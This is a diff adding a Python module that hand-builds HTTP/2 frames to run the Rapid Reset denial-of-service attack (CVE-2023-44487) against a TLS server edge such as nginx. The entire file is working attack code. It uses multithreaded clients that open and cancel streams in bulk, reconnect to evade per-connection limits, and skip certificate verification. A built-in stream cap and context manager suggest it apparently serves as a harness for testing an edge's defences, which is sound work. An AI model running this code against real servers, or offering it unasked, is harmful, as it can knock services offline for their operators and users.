@@ -1,0 +1,117 @@
+"""HTTP/2 streams that a client opens and resets at once, again and again (CVE-2023-44487).
+
+The frames are made here, as no client library sends them: RFC 9113, and header fields without compression (RFC 7541,
+section 6.2.2).
+"""
+
+from __future__ import annotations
+
+import socket
+import ssl
+import struct
+import threading
+from collections.abc import Iterator
+from contextlib import contextmanager
+
+HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
+END_STREAM, END_HEADERS = 0x1, 0x4
+CANCEL = 8
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+STREAMS_AT_ONCE = 100
+"""In one write."""
+
+ONE_OF = 10
+"""Streams, one of which is not reset: an edge that takes none of them takes the frames for errors."""
+
+STREAMS_PER_CONNECTION = 1000
+"""nginx skips what comes after `keepalive_requests` streams, so the client connects anew."""
+
+MOST_STREAMS = 200_000
+"""Of one attack: it ends by itself."""
+
+
+class Attack:
+    """What the clients have sent so far."""
+
+    def __init__(self) -> None:
+        self._lock = threading.Lock()
+        self.streams = 0
+        self.connections = 0
+        self.stop = threading.Event()
+
+    def sent(self, *, streams: int = 0, connections: int = 0) -> None:
+        """Count them; ends the attack when there are enough."""
+        with self._lock:
+            self.streams += streams
+            self.connections += connections
+            if self.streams >= MOST_STREAMS:
+                self.stop.set()
+
+
+@contextmanager
+def rapid_reset(address: tuple[str, int], host: str, path: str, source: str, *, clients: int = 4) -> Iterator[Attack]:
+    """Open and reset streams on as many connections, and on new ones after them, until the end of the block.
+
+    Args:
+        address: where the edge listens with TLS.
+        host: the API's host name.
+        path: that each stream asks for.
+        source: the address of the attacking client.
+        clients: how many connections there are at a time.
+    """
+    attack = Attack()
+    threads = [threading.Thread(target=_attack, args=(attack, address, host, path, source)) for _ in range(clients)]
+    for thread in threads:
+        thread.start()
+    try:
+        yield attack
+    finally:
+        attack.stop.set()
+        for thread in threads:
+            thread.join()
+
+
+def _attack(attack: Attack, address: tuple[str, int], host: str, path: str, source: str) -> None:
+    block = b"".join(
+        _field(name, value)
+        for name, value in {":method": "GET", ":scheme": "https", ":authority": host, ":path": path}.items()
+    )
+    while not attack.stop.is_set():
+        try:
+            with _connected(address, host, source) as connection:
+                connection.sendall(PREFACE + _frame(SETTINGS, 0, 0, b""))
+                attack.sent(connections=1)
+                for first in range(1, 2 * STREAMS_PER_CONNECTION, 2 * STREAMS_AT_ONCE):
+                    if attack.stop.is_set():
+                        break
+                    numbers = range(first, first + 2 * STREAMS_AT_ONCE, 2)
+                    connection.sendall(b"".join(_opened(number, block) for number in numbers))
+                    attack.sent(streams=STREAMS_AT_ONCE)
+        except OSError:
+            # The edge may close the connection of such a client.
+            continue
+
+
+def _opened(number: int, block: bytes) -> bytes:
+    """A stream's HEADERS, and its RST_STREAM but for the first of each `ONE_OF`."""
+    opened = _frame(HEADERS, END_HEADERS | END_STREAM, number, block)
+    if number // 2 % ONE_OF == 0:
+        return opened
+    return opened + _frame(RST_STREAM, 0, number, struct.pack(">I", CANCEL))
+
+
+def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+
+def _field(name: str, value: str) -> bytes:
+    """A literal header field without indexing; each length is below 127."""
+    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
+
+
+def _connected(address: tuple[str, int], host: str, source: str) -> ssl.SSLSocket:
+    context = ssl.create_default_context()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    context.set_alpn_protocols(["h2"])
+    plain = socket.create_connection(address, timeout=30, source_address=(source, 0))
+    return context.wrap_socket(plain, server_hostname=host)
